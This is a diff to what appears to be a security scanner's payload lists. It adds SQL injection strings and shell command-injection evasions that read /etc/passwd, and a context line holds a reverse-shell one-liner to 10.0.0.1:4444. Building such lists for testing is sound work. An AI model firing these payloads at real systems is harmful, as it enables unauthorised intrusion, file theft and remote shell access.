@@ -94,6 +94,10 @@ SQLI = [
         "5'+AND+'7'='7", "x'||(SELECT CASE WHEN (2>1) THEN pg_sleep(3) ELSE pg_sleep(0) END)||'",
         "' AND (SELECT 'z' FROM accounts LIMIT 1)='z", "8 and ord(mid(user(),1,1))>100",
     ]),
+    ("OWASP WSTG-INPV-05: statement endings, mixed case, comment-split operators", [
+        "';--", "1'/**/OR/**/1=1--", "' oR '1'='1", "9999 or 1 between 0 and 2", "1 and exists(select * from users)",
+        "-1' or 1 in (select 1)--",
+    ]),
 ]
 
 XSS = [
@@ -187,6 +191,7 @@ RCE = [
     ("Commonly documented shell filter evasions ($IFS, quotes, globbing)", [
         ";cat${IFS}/etc/passwd", "|w'h'o'am'i", ";c\\at /etc/hosts", "1;/???/c?t /etc/passwd", ";{cat,/etc/passwd}",
         "a;$@id", "x|/bin/b\"a\"sh -c id", ";sleep${IFS}7", "|cat$IFS/etc/issue", "host;w'h'o'a'm'i'",
+        ";${PATH:0:1}bin${PATH:0:1}id", "|id;", "x;ping${IFS}-c${IFS}3${IFS}127.0.0.1", ";cat</etc/passwd",
     ]),
     ("Reverse-shell one-liners described in incident reports", [
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "; python3 -c 'import socket,os;os.system(\"id\")'",
